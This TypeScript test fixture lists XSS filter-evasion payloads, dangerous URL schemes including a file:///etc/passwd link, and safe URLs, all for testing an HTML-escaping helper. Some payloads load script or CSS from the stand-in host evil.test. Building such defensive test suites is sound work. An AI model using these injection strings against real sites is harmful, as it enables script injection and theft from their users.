/**
 * XSS payloads in the style of the OWASP XSS Filter Evasion Cheat Sheet, used by the `html`
 * helper's unit tests and by the browser test that renders them in Chromium.
 */

/** Payloads meant to break out of element text or a quoted attribute. */
export const MARKUP_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/xss.js></SCRIPT>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '`><img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<img src="javascript:alert(1)">',
  '<iframe src=javascript:alert(1)>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<img """><script>alert(1)</script>">',
  '<svg><script>alert&#40;1&#41;</script>',
  '<body onload=alert(1)>',
  '<!--<script>alert(1)//-->',
  '-->< script>alert(1)</script>',
  '<style>@import "//evil.test/x.css";</style>',
  '" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u2028\u2029<script>alert(1)</script>',
  '\u0000<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '＜script＞alert(1)＜/script＞',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
]

/** URLs that must not reach an href/src/action as they are. */
export const BAD_URLS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u0000javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'javascript\t:alert(1)',
  'javascript:alert(1)\n',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'livescript:alert(1)',
  'file:///etc/passwd',
  'jav\u0000ascript:alert(1)',
  'javascript\u0000:alert(1)',
  'x:y',
]

/** URLs that must pass through (escaped as attribute text). */
export const GOOD_URLS: readonly string[] = [
  '/account',
  '/sessions/abc_DEF-123/revoke',
  '?q=1&r=2',
  '#top',
  './a:b',
  '//cdn.example/x.css',
  'https://example.com/a?b=c&d=e',
  'HTTP://EXAMPLE.COM/',
  'mailto:alice@example.com',
  // The `&` is escaped, so the browser sees these literally: relative paths, never a scheme.
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
]
